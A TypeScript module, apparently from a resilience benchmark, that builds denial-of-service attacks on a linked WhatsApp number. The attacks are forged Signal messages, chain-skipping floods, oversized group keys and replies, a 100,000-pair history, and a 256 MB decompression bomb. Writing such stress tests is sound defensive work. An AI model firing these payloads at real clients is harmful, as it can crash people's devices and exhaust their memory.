import { randomBytes } from 'node:crypto'
import { deflateSync } from 'node:zlib'
import { Curve, generateSignalPubKey } from 'baileys'
import protobuf from 'protobufjs/minimal.js'
import type { WhatsAppPeer } from './index.ts'

/** Returns a forged message of an unknown chain that claims to be far ahead. */
export function forgedMessage(ahead: number): Buffer {
  const writer = protobuf.Writer.create()
  writer.uint32(10).bytes(generateSignalPubKey(Curve.generateKeyPair().public))
  writer.uint32(16).uint32(ahead).uint32(24).uint32(ahead).uint32(34).bytes(randomBytes(16))
  return Buffer.concat([Buffer.from([0x33]), writer.finish(), randomBytes(8)])
}

/** Returns a group's sender key, as a member sends it to the others. */
export function groupKey(): Buffer {
  const writer = protobuf.Writer.create().uint32(8).uint32(1).uint32(16).uint32(0)
  writer.uint32(26).bytes(randomBytes(32)).uint32(34).bytes(generateSignalPubKey(Curve.generateKeyPair().public))
  return Buffer.concat([Buffer.from([0x33]), writer.finish()])
}

/** Attacks on a linked number by somebody with a client of his own, for the benchmark. */
export function createAttacks(peer: WhatsAppPeer, owner: string): Record<string, () => Promise<void>> {
  let strangers = 0
  const stranger = () => {
    strangers += 1
    return peer.recipient(String(6_289_900_000_000 + strangers))
  }
  const times = async (count: number, work: (n: number) => unknown): Promise<void> => {
    for (let n = 0; n < count; n += 1) await work(n)
  }

  return {
    'ten forged messages after 40 sessions': async () => {
      const one = stranger()
      await times(40, async () => {
        one.forgetSessions()
        await one.send('halo')
      })
      await times(10, () => one.sendUnreadable(forgedMessage(1_999)))
    },
    'twenty messages that each skip 499': async () => {
      const one = stranger()
      await times(20, async () => {
        await one.skip(499)
        await one.send('halo')
      })
    },
    '400 unreadable messages': async () => {
      const one = stranger()
      await times(400, () => one.sendUnreadable(randomBytes(60)))
    },
    '200 keys of groups with long names': async () => {
      const one = stranger()
      const keyOf = (n: number) => ({
        groupId: `${String(n).repeat(10_000)}@g.us`,
        axolotlSenderKeyDistributionMessage: groupKey(),
      })
      await times(200, (n) => one.send({ conversation: 'halo', senderKeyDistributionMessage: keyOf(n) }))
    },
    '300 replies of 65,000 letters, whose receiver is down': async () => {
      const one = stranger()
      await times(300, (n) => one.send(`${n} ${'x'.repeat(65_000)}`))
    },
    "a history of 100,000 pairs, of the owner's phone": async () => {
      const pairs = Array.from({ length: 100_000 }, (_, n) => ({
        pnJid: `${628_000_000_000 + n}@s.whatsapp.net`,
        lidJid: `${200_000_000_000_000 + n}@lid`,
      }))
      await peer.phone(owner).sendHistory({ pairs })
    },
    "a stanza that inflates to 256 MB, of WhatsApp's server": async () => {
      peer.phone(owner).sendBytes(Buffer.concat([Buffer.from([2]), deflateSync(Buffer.alloc(256 * 1024 * 1024))]))
    },
  }
}
